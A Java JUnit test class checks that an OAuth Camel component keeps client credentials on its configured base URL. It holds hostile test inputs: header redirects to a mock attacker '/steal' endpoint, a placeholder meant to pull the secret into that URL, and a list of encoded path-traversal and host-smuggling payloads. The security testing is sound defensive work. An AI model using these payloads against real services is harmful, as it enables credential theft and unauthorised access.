package com.cameloauth.component;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Properties;

import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.ProducerTemplate;
import org.apache.camel.impl.DefaultCamelContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;

/**
 * An oauth: call goes to its connection's base-url and nowhere else, whatever headers the exchange carries: the
 * credential must never reach another host, nor another path of the same host.
 */
class OAuthProducerTargetTest {
    private static final String SECRET = "s3cr3t-value-never-logged";

    private WireMockServer api;
    private WireMockServer attacker;
    private CamelContext camel;
    private ProducerTemplate template;

    @BeforeEach
    void start() {
        api = new WireMockServer(wireMockConfig().dynamicPort().bindAddress("127.0.0.1"));
        api.start();
        attacker = new WireMockServer(wireMockConfig().dynamicPort().bindAddress("127.0.0.1"));
        attacker.start();
        attacker.stubFor(any(anyUrl()).willReturn(okJson("{}")));
        api.stubFor(post("/token").willReturn(okJson("{\"access_token\":\"tok-1\",\"token_type\":\"Bearer\",\"expires_in\":300}")));
        api.stubFor(get(urlPathMatching("/api/.*")).willReturn(okJson("{\"api\":true}")));
        api.stubFor(get(urlPathMatching("/admin.*")).willReturn(okJson("{\"admin\":true}")));
        camel = new DefaultCamelContext();
        Properties p = new Properties();
        String base = "http://127.0.0.1:" + api.port();
        p.setProperty("oauth.connections.orders.policy", "client-credentials");
        p.setProperty("oauth.connections.orders.base-url", base + "/api");
        p.setProperty("oauth.connections.orders.token-url", base + "/token");
        p.setProperty("oauth.connections.orders.client-id", "orders-client");
        p.setProperty("oauth.connections.orders.client-secret", "{{orders.secret}}");
        p.setProperty("oauth.connections.orders.allow-insecure", "true");
        p.setProperty("orders.secret", SECRET);
        camel.getPropertiesComponent().setInitialProperties(p);
        template = camel.createProducerTemplate();
        camel.start();
    }

    @AfterEach
    void stop() {
        camel.stop();
        api.stop();
        attacker.stop();
    }

    private String attackerUrl(String path) {
        return "http://127.0.0.1:" + attacker.port() + path;
    }

    private void assertNothingReachedTheAttacker() {
        assertEquals(List.of(), attacker.findAll(anyRequestedFor(anyUrl())), "requests at the attacker");
    }

    private void assertNoRequestCarriesTheSecret() {
        for (LoggedRequest r : api.findAll(anyRequestedFor(anyUrl()))) {
            assertFalse(r.getUrl().contains(SECRET), r.getUrl());
            assertFalse(r.getAbsoluteUrl().contains(SECRET), r.getAbsoluteUrl());
        }
    }

    @Test
    void restHttpUriHeaderCannotRedirectTheCredential() {
        Exchange out = template.request("oauth:orders/v1/orders", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.REST_HTTP_URI, attackerUrl("/steal"));
        });
        assertNull(out.getException());
        assertNothingReachedTheAttacker();
        api.verify(1, getRequestedFor(urlPathEqualTo("/api/v1/orders")).withHeader("Authorization", equalTo("Bearer tok-1")));
        assertEquals(attackerUrl("/steal"), out.getMessage().getHeader(Exchange.REST_HTTP_URI), "the caller's header is given back");
    }

    @Test
    void restHttpUriHeaderCannotPullAConfiguredSecretIntoTheUrl() {
        Exchange out = template.request("oauth:orders/v1/orders", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.REST_HTTP_URI, attackerUrl("/steal?s={{orders.secret}}"));
        });
        assertNull(out.getException());
        assertNothingReachedTheAttacker();
        assertNoRequestCarriesTheSecret();
        api.verify(1, getRequestedFor(urlPathEqualTo("/api/v1/orders")));
    }

    @Test
    void httpUriHeaderOnTheInMessageCannotRedirectTheCredential() {
        // An exchange that already has an out message: getMessage() is not getIn(), and camel-http reads getIn().
        Exchange out = template.request("oauth:orders/v1/orders", e -> {
            e.getIn().setHeader(Exchange.HTTP_URI, attackerUrl("/steal"));
            e.getIn().setHeader(Exchange.REST_HTTP_URI, attackerUrl("/steal-rest"));
            e.getIn().setHeader(Exchange.HTTP_METHOD, "GET");
            @SuppressWarnings("deprecation")
            org.apache.camel.Message created = e.getOut();
            created.setHeader(Exchange.HTTP_METHOD, "GET");
        });
        assertNothingReachedTheAttacker();
        api.verify(1, getRequestedFor(urlPathEqualTo("/api/v1/orders")));
        assertNull(out.getIn().getHeader("Authorization"));
        assertNull(out.getMessage().getHeader("Authorization"));
    }

    @ParameterizedTest
    @ValueSource(strings = { "../admin", "../../admin", "v1/../../admin", "%2e%2e/admin", "%2E%2e/admin", ".%2e/admin",
            "%252e%252e/admin", "%25252e%25252e/admin", "..%2fadmin", "..%2Fadmin", "..\\admin", "..%5cadmin", "..%255cadmin",
            "..;/admin", "/../admin", "x/%2e%2e/%2e%2e/admin", "%c0%ae%c0%ae/admin" })
    void httpPathThatLeavesTheBasePathIsRefusedBeforeAnyRequest(String path) {
        Exchange out = template.request("oauth:orders", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.HTTP_PATH, path);
        });
        RequestTargetRefusedException refused = assertInstanceOf(RequestTargetRefusedException.class, out.getException(),
                String.valueOf(out.getException()));
        assertTrue(refused.getMessage().startsWith("OAuth connection 'orders': "), refused.getMessage());
        assertTrue(refused.getMessage().contains("CamelHttpPath"), refused.getMessage());
        assertEquals("orders", refused.getConnection());
        assertEquals(Exchange.HTTP_PATH, refused.getHeader());
        assertEquals(List.of(), api.findAll(anyRequestedFor(anyUrl())), "no request at all, not even for a token");
        assertNothingReachedTheAttacker();
        assertNull(out.getIn().getHeader("Authorization"));
    }

    @ParameterizedTest
    @ValueSource(strings = { "//127.0.0.1:%d/steal", "@127.0.0.1:%d/steal", "http://127.0.0.1:%d/steal",
            "/\\127.0.0.1:%d/steal", "x?#@127.0.0.1:%d/steal" })
    void httpPathCannotChangeTheHost(String pattern) {
        String path = pattern.formatted(attacker.port());
        Exchange out = template.request("oauth:orders", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.HTTP_PATH, path);
        });
        assertNothingReachedTheAttacker();
        // Either refused, or sent below the base-url path of the API
        for (LoggedRequest r : api.findAll(anyRequestedFor(anyUrl()))) {
            assertTrue(r.getUrl().startsWith("/api/") || r.getUrl().equals("/token"), r.getUrl());
        }
        if (out.getException() != null) {
            assertInstanceOf(RequestTargetRefusedException.class, out.getException(), String.valueOf(out.getException()));
        }
    }

    @Test
    void httpPathBelowTheBasePathWorks() {
        Exchange out = template.request("oauth:orders/v1", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.HTTP_PATH, "orders/./42/..x/%2e.x");
        });
        assertNull(out.getException());
        assertEquals(1, api.findAll(getRequestedFor(urlPathMatching("/api/v1/.*"))).size());
    }

    @Test
    void placeholdersInHttpPathAndQueryAreSentAsTextNeverResolved() {
        Exchange out = template.request("oauth:orders/v1", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.HTTP_PATH, "p{{orders.secret}}");
            e.getMessage().setHeader(Exchange.HTTP_QUERY, "q={{orders.secret}}");
        });
        assertNull(out.getException());
        List<LoggedRequest> calls = api.findAll(getRequestedFor(urlPathMatching("/api/v1/.*")));
        assertEquals(1, calls.size());
        assertTrue(calls.get(0).getUrl().contains("orders.secret"), calls.get(0).getUrl());
        assertNoRequestCarriesTheSecret();
        out = template.request("oauth:orders/v1", e -> {
            e.getMessage().setHeader(Exchange.HTTP_METHOD, "GET");
            e.getMessage().setHeader(Exchange.HTTP_RAW_QUERY, "q={{orders.secret}}");
        });
        assertNull(out.getException());
        assertNoRequestCarriesTheSecret();
    }
}
